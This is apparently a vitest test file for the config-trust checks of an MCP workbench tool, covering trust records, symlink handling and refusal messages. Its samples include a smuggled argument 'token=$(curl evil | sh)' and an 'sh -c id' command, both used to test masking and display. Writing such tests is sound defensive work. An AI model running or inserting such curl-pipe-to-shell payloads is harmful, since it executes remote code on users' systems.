import {
  chmodSync,
  mkdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";

import { perTest } from "../../../test/support/disposables.ts";
import { temporaryFolder } from "../../../test/support/workbench.ts";
import { findConfig, loadConfig, readUntrusted } from "../load.ts";
import { notTrustedError, requireTrust, trustConfig, trustFile, trustOf } from "./trust.ts";

const cleanup = perTest();
let root = "";
let env: Record<string, string> = {};

beforeEach(() => {
  root = temporaryFolder(cleanup);
  env = { HOME: root, XDG_STATE_HOME: join(root, "state") };
});
afterEach(() => vi.restoreAllMocks());

const TEXT = '{ "toolboxes": {} }';
const found = (text = TEXT, file = "/p/workbench-config.json") => ({
  file,
  text,
  bytes: Buffer.from(text),
});

describe("trust", () => {
  it("applies to one content at one path", async () => {
    expect(trustOf(found(), env)).toBe("unknown");
    await trustConfig(found(), env);
    expect(trustOf(found(), env)).toBe("trusted");
    expect(trustOf(found(`${TEXT} `), env)).toBe("changed");
    expect(trustOf(found(TEXT, "/q/workbench-config.json"), env)).toBe("unknown");
    await trustConfig(found(`${TEXT} `), env);
    expect(trustOf(found(), env)).toBe("changed");
  });

  it("distinguishes different bytes with the same text", async () => {
    await trustConfig(found(), env);
    const bytes = Buffer.from(`\ufeff${TEXT}`);
    expect(trustOf({ ...found(), bytes }, env)).toBe("changed");
  });

  it("is recorded in a private file", async () => {
    await trustConfig(found(), env);
    expect(statSync(trustFile(env)).mode & 0o777).toBe(0o600);
    expect(statSync(join(root, "state/mcp-workbench")).mode & 0o777).toBe(0o700);
  });

  it("of one file does not affect other files", async () => {
    await trustConfig(found(TEXT, "/a"), env);
    await trustConfig(found(TEXT, "/b"), env);
    expect(trustOf(found(TEXT, "/a"), env)).toBe("trusted");
    expect(trustOf(found(TEXT, "/b"), env)).toBe("trusted");
  });

  it.each<[string, () => void]>([
    ["damaged", () => writeFileSync(trustFile(env), "{")],
    ["of another version", () => rewrite((text) => text.replace('"version": 1', '"version": 2'))],
    ["a list", () => writeFileSync(trustFile(env), "[]")],
    ["writable by others", () => chmodSync(trustFile(env), 0o602)],
    ["gone", () => rmSync(trustFile(env))],
    [
      "a folder",
      () => {
        rmSync(trustFile(env));
        mkdirSync(trustFile(env));
      },
    ],
    [
      "a link to a good one",
      () => {
        writeFileSync(join(root, "elsewhere"), readFileSync(trustFile(env)), { mode: 0o600 });
        rmSync(trustFile(env));
        symlinkSync(join(root, "elsewhere"), trustFile(env));
      },
    ],
    ["of another user", () => vi.spyOn(process, "getuid").mockReturnValue(4_000_000)],
  ])("is ignored if the record is %s", async (_, spoil) => {
    await trustConfig(found(), env);
    spoil();
    expect(trustOf(found(), env)).toBe("unknown");
    vi.restoreAllMocks();
  });

  it("replaces a record that is a link instead of following it", async () => {
    const victim = join(root, "victim");
    writeFileSync(victim, "mine");
    mkdirSync(join(root, "state/mcp-workbench"), { recursive: true });
    symlinkSync(victim, trustFile(env));
    await trustConfig(found(), env);
    expect(readFileSync(victim, "utf8")).toBe("mine");
    expect(trustOf(found(), env)).toBe("trusted");
  });

  const rewrite = (change: (text: string) => string): void =>
    writeFileSync(trustFile(env), change(readFileSync(trustFile(env), "utf8")));
});

describe("a refusal", () => {
  const refusal = async (entry: object) => {
    const mcpServers = { s: entry };
    const text = JSON.stringify({ toolboxes: { t: { description: "d", mcpServers } } });
    return notTrustedError(found(text), "unknown", env);
  };

  it("names the file, what it would do and how to continue", async () => {
    const error = await refusal({ command: "sh", args: ["-c", "id"] });
    expect(error.exitCode).toBe(3);
    expect(error.text).toBe(
      [
        "Configuration not trusted: /p/workbench-config.json was found in the current folder. Nothing was started",
        "  It would:",
        "    start t/s: sh -c id",
        "If you trust it: mcp-workbench trust --config /p/workbench-config.json",
        "To use it for one command: --config /p/workbench-config.json",
      ].join("\n"),
    );
  });

  it("masks tokens, because errors end up in logs, but nothing else", async () => {
    const args = [`--key=ghp_${"a1B2c3D4e5".repeat(4)}`, "token=$(curl evil | sh)"];
    const { message } = await refusal({ command: "x", args });
    expect(message).toContain("start t/s: x --key=*** 'token=$(curl evil | sh)'");
  });

  it("stays readable, whatever the file contains", async () => {
    const many = Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`v${i}`, "x"]));
    const { message } = await refusal({ command: "x".repeat(100_000), env: many });
    expect(message.length).toBeLessThan(10_000);
    expect(message).toContain("more characters");
    expect(message).toContain("and 461 more lines");
  });
});

describe("findConfig", () => {
  it("returns the bytes whose trust was checked, and none if they are not trusted", async () => {
    const file = join(root, "workbench-config.json");
    writeFileSync(file, TEXT);
    await expect(findConfig({ cwd: root, env })).rejects.toMatchObject({
      code: "CONFIG_NOT_TRUSTED",
    });
    await expect(loadConfig({ cwd: root, env })).rejects.toMatchObject({
      code: "CONFIG_NOT_TRUSTED",
    });
    const seen = readUntrusted({ file, fromCurrentFolder: true });
    await trustConfig(seen, env);
    expect(await findConfig({ cwd: root, env })).toMatchObject({ file, text: TEXT });
    writeFileSync(file, '{ "toolboxes": { } }');
    await requireTrust(seen, env);
    await expect(findConfig({ cwd: root, env })).rejects.toThrow("has changed since");
  });
});
